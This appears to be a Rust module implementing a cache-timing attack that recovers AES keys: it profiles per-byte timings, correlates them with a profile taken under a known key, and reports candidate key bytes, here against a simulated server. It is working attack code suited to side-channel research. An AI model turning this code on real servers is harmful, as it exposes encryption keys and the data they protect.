//! Study/attack cache-timing key recovery.
//!
//! Timings are profiled per (nonce byte position, byte value) as deviations
//! from the overall mean. A profile taken under a known key is aligned
//! against the victim's profile by xor-shifting the value axis; key-byte
//! guesses whose alignment score lies within `margin` standard deviations
//! of the best survive into the candidate set.

use std::io::Write;

use rand::seq::SliceRandom;
use rand::{RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;
use rayon::prelude::*;
use serde::Serialize;
use thiserror::Error;

use crate::aes::Key128;
use crate::service::{ServiceError, SimulatedTiming};

pub const POSITIONS: usize = 16;
pub const MIN_PACKET_LEN: usize = 16;
pub const MAX_PACKET_LEN: usize = 800;

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("packets per cell must be at least 1")]
    NoPackets,
    #[error("packet length {0} outside {MIN_PACKET_LEN}..={MAX_PACKET_LEN}")]
    PacketLen(usize),
    #[error("margin must be a non-negative number, got {0}")]
    Margin(f64),
    #[error("no timing samples")]
    EmptyStream,
    #[error("timing oracle failed: {0}")]
    Oracle(#[from] ServiceError),
    #[error(transparent)]
    Io(#[from] std::io::Error),
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TimingSample {
    pub nonce: [u8; 16],
    pub cycles: u64,
}

/// Running per-cell sums for a profile.
#[derive(Clone)]
pub struct ProfileBuilder {
    sums: Vec<[u64; 256]>,
    counts: Vec<[u64; 256]>,
    total: u128,
    samples: u64,
}

impl Default for ProfileBuilder {
    fn default() -> Self {
        ProfileBuilder { sums: vec![[0; 256]; POSITIONS], counts: vec![[0; 256]; POSITIONS], total: 0, samples: 0 }
    }
}

impl ProfileBuilder {
    pub fn add(&mut self, nonce: &[u8], cycles: u64) {
        for (j, &v) in nonce[..POSITIONS].iter().enumerate() {
            self.sums[j][v as usize] += cycles;
            self.counts[j][v as usize] += 1;
        }
        self.total += cycles as u128;
        self.samples += 1;
    }

    pub fn samples(&self) -> u64 {
        self.samples
    }

    pub fn finish(self) -> Result<TimingProfile, AttackError> {
        if self.samples == 0 {
            return Err(AttackError::EmptyStream);
        }
        let grand_mean = self.total as f64 / self.samples as f64;
        let mut empty = 0usize;
        let mean_dev = self
            .sums
            .iter()
            .zip(&self.counts)
            .map(|(sums, counts)| {
                std::array::from_fn(|v| {
                    if counts[v] == 0 {
                        empty += 1;
                        0.0
                    } else {
                        sums[v] as f64 / counts[v] as f64 - grand_mean
                    }
                })
            })
            .collect();
        if empty > 0 {
            log::warn!("{empty} profile cells have no samples; their deviation is taken as 0");
        }
        Ok(TimingProfile { mean_dev, counts: self.counts, grand_mean, samples: self.samples })
    }
}

/// Mean cycle deviation for each (position, byte value).
#[derive(Clone, Debug, PartialEq)]
pub struct TimingProfile {
    pub mean_dev: Vec<[f64; 256]>,
    pub counts: Vec<[u64; 256]>,
    pub grand_mean: f64,
    pub samples: u64,
}

pub fn build_profile<I: IntoIterator<Item = TimingSample>>(samples: I) -> Result<TimingProfile, AttackError> {
    let mut b = ProfileBuilder::default();
    for s in samples {
        b.add(&s.nonce, s.cycles);
    }
    b.finish()
}

impl TimingProfile {
    /// Σ_v count·deviation at position `j`; zero up to rounding.
    pub fn weighted_sum(&self, j: usize) -> f64 {
        self.mean_dev[j].iter().zip(&self.counts[j]).map(|(d, &c)| d * c as f64).sum()
    }

    pub fn is_flat(&self, j: usize) -> bool {
        self.mean_dev[j].iter().all(|&d| d == 0.0)
    }

    pub fn write_csv<W: Write>(&self, mut w: W) -> std::io::Result<()> {
        writeln!(w, "position,value,mean_dev,count")?;
        for j in 0..POSITIONS {
            for v in 0..256 {
                writeln!(w, "{j},{v},{},{}", self.mean_dev[j][v], self.counts[j][v])?;
            }
        }
        Ok(())
    }
}

#[derive(Clone, Debug, PartialEq)]
pub struct CorrelationResult {
    pub scores: Vec<[f64; 256]>,
}

impl CorrelationResult {
    pub fn argmax(&self, j: usize) -> u8 {
        let row = &self.scores[j];
        (0..256).fold(0, |best, g| if row[g] > row[best] { g } else { best }) as u8
    }
}

/// score[j][g] = Σ_v study[j][v ^ study_key[j]] · attack[j][v ^ g]
pub fn correlate(study: &TimingProfile, study_key: &Key128, attack: &TimingProfile) -> CorrelationResult {
    let scores = (0..POSITIONS)
        .map(|j| {
            let k = study_key.0[j] as usize;
            let s = &study.mean_dev[j];
            let a = &attack.mean_dev[j];
            std::array::from_fn(|g| (0..256).map(|v| s[v ^ k] * a[v ^ g]).sum())
        })
        .collect();
    CorrelationResult { scores }
}

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct KeySpaceEstimate {
    pub candidates: Vec<Vec<u8>>,
    pub size_log2: f64,
    pub size_decimal: f64,
}

impl KeySpaceEstimate {
    pub fn set_sizes(&self) -> Vec<usize> {
        self.candidates.iter().map(Vec::len).collect()
    }

    pub fn contains(&self, key: &Key128) -> [bool; 16] {
        std::array::from_fn(|j| self.candidates[j].contains(&key.0[j]))
    }

    pub fn is_full(&self) -> bool {
        self.candidates.iter().all(|c| c.len() == 256)
    }
}

/// Keeps, per position, every guess scoring within `margin` standard
/// deviations of that position's best score.
pub fn candidate_sets(c: &CorrelationResult, margin: f64) -> Result<KeySpaceEstimate, AttackError> {
    if margin.is_nan() || margin < 0.0 || margin.is_infinite() {
        return Err(AttackError::Margin(margin));
    }
    let candidates: Vec<Vec<u8>> = c
        .scores
        .iter()
        .map(|row| {
            let max = row.iter().copied().fold(f64::NEG_INFINITY, f64::max);
            let mean = row.iter().sum::<f64>() / 256.0;
            let sd = (row.iter().map(|s| (s - mean).powi(2)).sum::<f64>() / 256.0).sqrt();
            let threshold = max - margin * sd;
            (0..=255u8).filter(|&g| row[g as usize] >= threshold).collect()
        })
        .collect();
    let size_log2 = candidates.iter().map(|c: &Vec<u8>| (c.len() as f64).log2()).sum::<f64>();
    Ok(KeySpaceEstimate { candidates, size_log2, size_decimal: size_log2.exp2() })
}

/// Fixed-length request packets stored back to back.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PacketBatch {
    packet_len: usize,
    bytes: Vec<u8>,
}

impl PacketBatch {
    pub fn new(packet_len: usize) -> Self {
        PacketBatch { packet_len, bytes: Vec::new() }
    }

    pub fn len(&self) -> usize {
        self.bytes.len() / self.packet_len
    }

    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    pub fn packet_len(&self) -> usize {
        self.packet_len
    }

    pub fn iter(&self) -> std::slice::ChunksExact<'_, u8> {
        self.bytes.chunks_exact(self.packet_len)
    }

    pub fn push(&mut self, packet: &[u8]) {
        assert_eq!(packet.len(), self.packet_len);
        self.bytes.extend_from_slice(packet);
    }
}

/// Something that times a server's handling of request packets.
pub trait TimingOracle {
    /// One cycle count per packet, in order.
    fn measure(&mut self, batch: &PacketBatch) -> Result<Vec<u64>, AttackError>;
}

/// The simulated server evaluated in this process, in parallel.
pub struct InProcessOracle {
    timing: SimulatedTiming,
}

impl InProcessOracle {
    pub fn new(timing: SimulatedTiming) -> Self {
        InProcessOracle { timing }
    }
}

impl TimingOracle for InProcessOracle {
    fn measure(&mut self, batch: &PacketBatch) -> Result<Vec<u64>, AttackError> {
        let packets: Vec<&[u8]> = batch.iter().collect();
        Ok(packets.par_iter().map_init(Vec::new, |scratch, p| self.timing.cycles_with(p, scratch)).collect())
    }
}

impl<F: FnMut(&[u8]) -> u64> TimingOracle for F {
    fn measure(&mut self, batch: &PacketBatch) -> Result<Vec<u64>, AttackError> {
        Ok(batch.iter().map(self).collect())
    }
}

#[derive(Clone, Debug, PartialEq)]
pub struct AttackConfig {
    pub packets_per_cell: usize,
    pub packet_len: usize,
    pub margin: f64,
    pub seed: u64,
    pub study_key: Key128,
    pub batch_size: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            packets_per_cell: 1 << 13,
            packet_len: MAX_PACKET_LEN,
            margin: 1.0,
            seed: 0,
            study_key: Key128::default(),
            batch_size: 1 << 14,
        }
    }
}

impl AttackConfig {
    fn validate(&self) -> Result<(), AttackError> {
        if self.packets_per_cell == 0 {
            return Err(AttackError::NoPackets);
        }
        if !(MIN_PACKET_LEN..=MAX_PACKET_LEN).contains(&self.packet_len) {
            return Err(AttackError::PacketLen(self.packet_len));
        }
        if self.margin.is_nan() || self.margin < 0.0 {
            return Err(AttackError::Margin(self.margin));
        }
        Ok(())
    }
}

/// Deterministic packet source. Every group of 256 packets takes each value
/// exactly once at each profiled position (independent shuffles per
/// position); the remaining bytes are uniform.
pub struct PacketGenerator {
    rng: ChaCha8Rng,
    packet_len: usize,
    perms: [[u8; 256]; POSITIONS],
    cursor: usize,
}

impl PacketGenerator {
    pub fn new(seed: u64, packet_len: usize) -> Self {
        PacketGenerator { rng: ChaCha8Rng::seed_from_u64(seed), packet_len, perms: [[0; 256]; POSITIONS], cursor: 256 }
    }

    pub fn next_into(&mut self, out: &mut [u8]) {
        if self.cursor == 256 {
            for perm in &mut self.perms {
                for (v, slot) in perm.iter_mut().enumerate() {
                    *slot = v as u8;
                }
                perm.shuffle(&mut self.rng);
            }
            self.cursor = 0;
        }
        for (j, b) in out[..POSITIONS].iter_mut().enumerate() {
            *b = self.perms[j][self.cursor];
        }
        self.rng.fill_bytes(&mut out[POSITIONS..]);
        self.cursor += 1;
    }

    pub fn batch(&mut self, n: usize) -> PacketBatch {
        let mut b = PacketBatch { packet_len: self.packet_len, bytes: vec![0; n * self.packet_len] };
        for chunk in b.bytes.chunks_exact_mut(self.packet_len) {
            self.next_into(chunk);
        }
        b
    }
}

/// Profiles one server with `packets_per_cell * 256` packets.
pub fn profile_oracle(
    oracle: &mut dyn TimingOracle,
    packets_per_cell: usize,
    packet_len: usize,
    seed: u64,
    batch_size: usize,
) -> Result<TimingProfile, AttackError> {
    if packets_per_cell == 0 {
        return Err(AttackError::NoPackets);
    }
    if !(MIN_PACKET_LEN..=MAX_PACKET_LEN).contains(&packet_len) {
        return Err(AttackError::PacketLen(packet_len));
    }
    let mut generator = PacketGenerator::new(seed, packet_len);
    let mut builder = ProfileBuilder::default();
    let mut remaining = packets_per_cell * 256;
    while remaining > 0 {
        let n = remaining.min(batch_size.max(256));
        let batch = generator.batch(n);
        let cycles = oracle.measure(&batch)?;
        for (packet, c) in batch.iter().zip(cycles) {
            builder.add(packet, c);
        }
        remaining -= n;
    }
    builder.finish()
}

#[derive(Clone, Debug)]
pub struct AttackReport {
    pub study: TimingProfile,
    pub attack: TimingProfile,
    pub correlation: CorrelationResult,
    pub estimate: KeySpaceEstimate,
    pub contained: Option<[bool; 16]>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct AttackSummary {
    pub set_sizes: Vec<usize>,
    pub size_log2: f64,
    pub size_decimal: f64,
    pub contained: Option<Vec<bool>>,
    pub all_contained: Option<bool>,
}

impl AttackReport {
    pub fn summary(&self) -> AttackSummary {
        AttackSummary {
            set_sizes: self.estimate.set_sizes(),
            size_log2: self.estimate.size_log2,
            size_decimal: self.estimate.size_decimal,
            contained: self.contained.map(|c| c.to_vec()),
            all_contained: self.contained.map(|c| c.iter().all(|&x| x)),
        }
    }

    pub fn to_text(&self) -> String {
        let mut out = String::new();
        out.push_str("position  candidates  true-byte\n");
        for (j, c) in self.estimate.candidates.iter().enumerate() {
            let contained = match self.contained {
                Some(c) if c[j] => "in set",
                Some(_) => "MISSING",
                None => "-",
            };
            out.push_str(&format!("{j:>8}  {:>10}  {contained}\n", c.len()));
        }
        out.push_str(&format!("key space: 2^{:.2} = {:.4e}\n", self.estimate.size_log2, self.estimate.size_decimal));
        out
    }
}

/// Study phase against `study` (a server under `cfg.study_key`), attack phase
/// against `target`, then correlation and candidate selection.
pub fn run_attack(
    study: &mut dyn TimingOracle,
    target: &mut dyn TimingOracle,
    cfg: &AttackConfig,
    true_key: Option<&Key128>,
) -> Result<AttackReport, AttackError> {
    cfg.validate()?;
    let study_profile = profile_oracle(study, cfg.packets_per_cell, cfg.packet_len, cfg.seed, cfg.batch_size)?;
    let attack_seed = cfg.seed ^ 0x9e37_79b9_7f4a_7c15;
    let attack_profile = profile_oracle(target, cfg.packets_per_cell, cfg.packet_len, attack_seed, cfg.batch_size)?;
    let correlation = correlate(&study_profile, &cfg.study_key, &attack_profile);
    let estimate = candidate_sets(&correlation, cfg.margin)?;
    let contained = true_key.map(|k| estimate.contains(k));
    Ok(AttackReport { study: study_profile, attack: attack_profile, correlation, estimate, contained })
}
